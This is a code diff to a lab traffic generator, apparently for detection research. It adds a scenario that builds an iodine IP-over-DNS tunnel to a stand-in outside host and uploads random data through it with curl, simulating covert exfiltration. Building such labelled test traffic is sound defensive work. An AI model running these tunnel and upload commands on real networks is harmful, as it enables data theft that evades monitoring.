@@ -3,8 +3,10 @@
  * namespace with its own address (so a flow's label follows from its addresses and time span).
  * Targets are only lab hosts; every loop has a fixed count and the script a time limit.
  */
+import { existsSync } from 'node:fs';
+import { join } from 'node:path';
 import { Rng } from '../model/random.ts';
-import { type LabHost, OUTSIDE, SERVERS } from './plan.ts';
+import { type LabHost, nsName, OUTSIDE, SERVERS } from './plan.ts';
 
 export interface ScenarioContext {
   /** The scenario's own directory (wordlists, tool state). */
@@ -14,7 +16,13 @@ export interface ScenarioContext {
   /** Seconds the scenario may run. */
   limit: number;
   seed: number;
+  /** The lab's certificate and key (for servers a scenario starts itself). */
+  cert?: string;
+  key?: string;
 }
+
+/** Directory of the lab's small Node servers. */
+export const DAEMONS = join(import.meta.dirname, 'daemons');
 
 export interface ScenarioSpec {
   name: string;
@@ -35,8 +43,19 @@ export interface ScenarioSpec {
   background?: 'office' | 'light';
   /** Longest useful run time in seconds. */
   maxSeconds: number;
+  /**
+   * A far end the scenario brings along (e.g. a tunnel server), created only when it runs; flows
+   * with its address belong to the scenario too.
+   */
+  peer?: LabHost;
+  /** Why the scenario cannot run here (beyond missing tools), or null. */
+  unavailable?: () => string | null;
   script(ctx: ScenarioContext): string;
 }
+
+/** The far end of the iodine tunnel and its zone (the lab resolver forwards the zone to it). */
+export const TUNNEL_SERVER: LabHost = { id: 'o-tunnel', ip: '203.0.113.53', role: 'outside' };
+export const TUNNEL_ZONE = 't.corp-tunnel.example';
 
 const attacker = (id: string, n: number): LabHost => ({ id, ip: `198.51.100.${n}`, role: 'attacker' });
 const insider = (id: string, n: number): LabHost => ({ id, ip: `192.0.2.${n}`, role: 'insider' });
@@ -281,6 +300,38 @@ export const SCENARIOS: ScenarioSpec[] = [
         cmds.push(`sleep 0.${(i * 7) % 3}${rng.int(10)}`);
       }
       return lines(...cmds);
+    },
+  },
+  {
+    name: 'dns-tunnel-iodine',
+    tool: 'iodine',
+    needs: ['iodine', 'iodined'],
+    attacker: insider('i-iodine', 153),
+    peer: TUNNEL_SERVER,
+    victims: [S.dns.ip, TUNNEL_SERVER.ip],
+    ports: '53/udp',
+    description:
+      'iodine IP-over-DNS tunnel through the lab resolver to an outside iodined, then a 300 kB HTTPS upload inside the tunnel',
+    span: 'slot',
+    maxSeconds: 45,
+    unavailable: () => (existsSync('/dev/net/tun') ? null : 'no /dev/net/tun for the tunnel interface'),
+    script: (c) => {
+      const peer = nsName(TUNNEL_SERVER);
+      const pass = `lab${c.seed}tunnel`;
+      return lines(
+        `cd ${c.dir}`,
+        `ip netns exec ${peer} iodined -f -c -P ${pass} -l ${TUNNEL_SERVER.ip} 10.99.0.1 ${TUNNEL_ZONE} > iodined.log 2>&1 &`,
+        'sleep 1',
+        `iodine -f -r -P ${pass} ${S.dns.ip} ${TUNNEL_ZONE} > iodine.log 2>&1 &`,
+        'for i in $(seq 1 60); do ip -br addr show dns0 2>/dev/null | grep -q 10.99.0 && break; sleep 0.5; done',
+        `ip netns exec ${peer} ${process.execPath} ${join(DAEMONS, 'https-sink.mjs')} 10.99.0.1 443 ${c.cert} ${c.key} ${c.dir} > sink.log 2>&1 &`,
+        'sleep 1',
+        'head -c 300000 /dev/urandom > payload.bin',
+        `timeout ${Math.max(5, Math.floor(c.limit - 15))} curl -sk -m ${Math.max(4, Math.floor(c.limit - 16))} -T payload.bin https://10.99.0.1/up > upload.txt || true`,
+        'sleep 2',
+        'kill $(jobs -p) 2>/dev/null',
+        'wait',
+      );
     },
   },
   {
